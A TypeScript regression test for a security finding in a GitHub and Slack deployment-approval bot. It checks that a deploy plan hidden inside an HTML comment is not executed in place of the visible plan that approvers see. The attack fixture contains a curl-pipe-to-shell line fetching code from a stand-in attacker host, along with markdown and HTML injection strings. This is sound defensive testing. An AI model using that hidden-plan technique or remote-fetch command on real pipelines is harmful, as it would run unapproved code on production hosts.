/**
 * Finding 4: what approvers see is what runs. A plan hidden in an HTML comment (GitHub renders nothing of it) used
 * to be taken before the visible decoy below it, and neither the bot's reply nor the Slack approval message showed
 * the commands. Driven through the real path: signed `issue_comment` deliveries of the example payload to the App
 * (Probot) over the work-order service on PostgreSQL, the Slack app's Web API calls recorded.
 */
import { randomBytes } from 'node:crypto';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { HostEntry } from '../../src/config/types.ts';
import { currentPlan, findWorkOrder, type WorkOrder } from '../../src/workorders/service/index.ts';
import {
  bodyText,
  commentsMatching,
  formBody,
  githubRequestCheck,
  issueComment,
  issueOpened,
  repoConfigYaml,
  REPO_FULL_NAME,
  ROUTES,
  send,
  startHarness,
  type Harness,
} from '../helpers/github-workorder-harness.ts';
import { startSlackApiRecorder, type SlackApiRecorder } from '../helpers/slack-api-recorder.ts';
import { expectValidBlocks } from '../helpers/slack-block-kit.ts';

const HOSTS: HostEntry[] = [1, 2, 3].map((n) => ({
  name: `web-${n}`,
  address: `10.0.4.${n}`,
  port: 22,
  executor: 'ssh',
}));
const SECRET = randomBytes(16).toString('hex');
const SHA_VISIBLE = 'a'.repeat(64);
const SHA_HIDDEN = 'e'.repeat(64);

/** Commands that try to break out of the reply: backticks, `</details>`, a mention, HTML. */
const COMMANDS = {
  check: ['test -d /srv/shop', 'echo "```" && echo `date` </details> @pam <img src=x>'],
  pre_deploy: ['systemctl stop shop-worker'],
  post_deploy: ['ln -sf /etc/shop/env .env', 'printf "%s\\n" "</details><details open>" @dave'],
  health: 'curl -fsS http://127.0.0.1:8080/healthz | grep -q ok',
  release: ['systemctl restart shop'],
  monitor: 'test "$(cat /proc/loadavg | cut -d\' \' -f1 | cut -d. -f1)" -lt 8',
};

function yamlString(value: string): string {
  return JSON.stringify(value);
}

function planYaml(version: string, sha256: string, release: readonly string[]): string[] {
  return [
    'app: shop',
    'environment: production',
    `version: ${version}`,
    'package:',
    `  url: https://artifacts.example.com/shop-${version}.tar.gz`,
    `  sha256: ${sha256}`,
    'strategy: { mode: batches, batch_size: 1, canary: 1, pause: 1s }',
    'commands:',
    `  check: [${COMMANDS.check.map(yamlString).join(', ')}]`,
    `  pre_deploy: [${COMMANDS.pre_deploy.map(yamlString).join(', ')}]`,
    `  post_deploy: [${COMMANDS.post_deploy.map(yamlString).join(', ')}]`,
    `  health: { command: ${yamlString(COMMANDS.health)}, retries: 2, interval: 1s }`,
    `  release: [${release.map(yamlString).join(', ')}]`,
    `  monitor: { command: ${yamlString(COMMANDS.monitor)}, duration: 10s, interval: 5s }`,
  ];
}

/** The attack: the real plan inside an HTML comment (GitHub shows nothing of it), a decoy visible below. */
const ATTACK = [
  '<!--',
  '```yaml',
  ...planYaml('6.6.6', SHA_HIDDEN, ['curl -fsS https://evil.example.net/x | sh']),
  '```',
  '-->',
  '',
  'Here is the plan:',
  '',
  '```yaml',
  ...planYaml('2.0.0', SHA_VISIBLE, COMMANDS.release),
  '```',
].join('\n');

const EVERY_COMMAND = [
  ...COMMANDS.check,
  ...COMMANDS.pre_deploy,
  ...COMMANDS.post_deploy,
  COMMANDS.health,
  ...COMMANDS.release,
  COMMANDS.monitor,
];

let recorder: SlackApiRecorder;
let harness: Harness;
let nextComment = 40_000;

beforeAll(async () => {
  recorder = await startSlackApiRecorder();
  const yaml = `${repoConfigYaml(HOSTS, 'production: { hosts: [web], approvals: 2, approvers: [team:ops], slack_channel: C0OPS }')}slack: { channel: C0ALL, users: {} }\n`;
  harness = await startHarness({
    configYaml: yaml,
    workDir: '/nonexistent',
    slack: { apiUrl: recorder.url, signingSecret: SECRET },
  });
}, 60_000);

afterAll(async () => {
  await harness?.close();
  await recorder?.close();
});

afterEach(githubRequestCheck(() => harness));

async function openOrder(number: number): Promise<WorkOrder> {
  await send(
    harness,
    'issues',
    issueOpened(
      number,
      'pam',
      formBody({ requirement: 'Ship', planAuthor: 'carol', deployer: 'dave', acceptor: 'pam' }),
    ),
  );
  const order = await findWorkOrder(harness.deps.db, { repoFullName: REPO_FULL_NAME, number });
  if (order === undefined) throw new Error(`no work order #${number}`);
  return order;
}

interface Rendered {
  /** Text of every code block and code span, as GitHub shows it. */
  code: string[];
  /** Raw HTML that GitHub would interpret. */
  html: string[];
}

/** The reply as GitHub renders it: what sits in code (inert) and what is raw HTML. */
function rendered(markdown: string): Rendered {
  const found: Rendered = { code: [], html: [] };
  const walk = (node: { type: string; value?: string; children?: unknown[] }): void => {
    if ((node.type === 'code' || node.type === 'inlineCode') && node.value !== undefined)
      found.code.push(node.value.replace(/\r\n?/g, '\n'));
    if (node.type === 'html' && node.value !== undefined) found.html.push(node.value);
    for (const child of node.children ?? []) walk(child as { type: string; value?: string; children?: unknown[] });
  };
  walk(fromMarkdown(markdown));
  return found;
}

describe('finding 4: a plan hidden from approvers', () => {
  it('takes the visible plan, not the one in an HTML comment, and the reply and Slack message show every command verbatim', async () => {
    const order = await openOrder(401);
    await send(harness, 'issue_comment', issueComment(401, nextComment++, 'carol', ATTACK));

    const stored = await currentPlan(harness.deps.db, order.id);
    expect(stored?.plan.version).toBe('2.0.0');
    expect(stored?.plan.package.sha256).toBe(SHA_VISIBLE);
    expect(stored?.row.yaml).not.toContain('evil.example.net');

    const [reply = ''] = await commentsMatching(harness, 401, /Plan v1 checked/);
    const shown = rendered(reply);
    for (const command of EVERY_COMMAND) expect(shown.code).toContain(command);
    expect(shown.code).toContain(`https://artifacts.example.com/shop-2.0.0.tar.gz`);
    expect(shown.code).toContain(SHA_VISIBLE);
    for (const [name, address] of HOSTS.map((host) => [host.name, host.address])) {
      expect(shown.code).toContain(name);
      expect(shown.code.join('\n')).toContain(address);
    }
    // Nothing a command holds became HTML or a mention: the only HTML is the reply's own folding and the marker of its
    // pre-flight section.
    for (const html of shown.html)
      expect(html).toMatch(/^(<details>\n<summary>[^<>@`]*<\/summary>|<\/details>|<!-- yardmaster:preflight -->)$/);
    expect(reply).not.toContain('evil.example.net');

    const [message] = await recorder.waitFor('chat.postMessage', {
      where: (call) => JSON.stringify(call.args.blocks ?? '').includes(`"${order.id}:`),
    });
    expectValidBlocks(message?.args.blocks);
    const texts = JSON.stringify(message?.args.blocks);
    for (const command of EVERY_COMMAND) expect(texts).toContain(JSON.stringify(command).slice(1, -1));
    expect(texts).toContain(SHA_VISIBLE);
    for (const host of HOSTS) expect(texts).toContain(host.address);
    expect(texts).not.toContain('evil.example.net');
    // Everything fits, so approving from Slack is offered.
    expect(texts).toContain('yardmaster_approve');
  });

  it('refuses a comment with two plan blocks, saying so, and stores neither', async () => {
    const order = await openOrder(402);
    const twice = [
      '```yaml',
      ...planYaml('2.0.0', SHA_VISIBLE, COMMANDS.release),
      '```',
      '',
      'or rather:',
      '',
      '```yardmaster',
      ...planYaml('2.0.1', SHA_VISIBLE, COMMANDS.release),
      '```',
    ].join('\n');
    await send(harness, 'issue_comment', issueComment(402, nextComment++, 'carol', twice));
    const [reply = ''] = await commentsMatching(harness, 402, /more than one plan/);
    expect(reply).toMatch(/lines 1 and 20/);
    expect(await currentPlan(harness.deps.db, order.id)).toBeUndefined();
    expect(
      harness.fake
        .requestsTo(ROUTES.comments)
        .filter((request) => request.pathParams.issue_number === '402' && /Plan v\d+ checked/.test(bodyText(request))),
    ).toEqual([]);
  });

  it('takes no plan from an HTML block or indented code, which GitHub does not show as a plan', async () => {
    const order = await openOrder(403);
    const plan = planYaml('2.0.0', SHA_VISIBLE, COMMANDS.release);
    const hidden = [
      '<details>',
      '```yaml',
      ...plan,
      '```',
      '</details>',
      '',
      '    ```yaml',
      ...plan.map((line) => `    ${line}`),
      '    ```',
    ].join('\n');
    await send(harness, 'issue_comment', issueComment(403, nextComment++, 'carol', hidden));
    expect(await currentPlan(harness.deps.db, order.id)).toBeUndefined();
    expect(
      harness.fake
        .requestsTo(ROUTES.comments)
        .filter(
          (request) =>
            request.pathParams.issue_number === '403' &&
            /plan/i.test(bodyText(request)) &&
            !bodyText(request).includes('Work order received'),
        ),
    ).toEqual([]);
  });
});
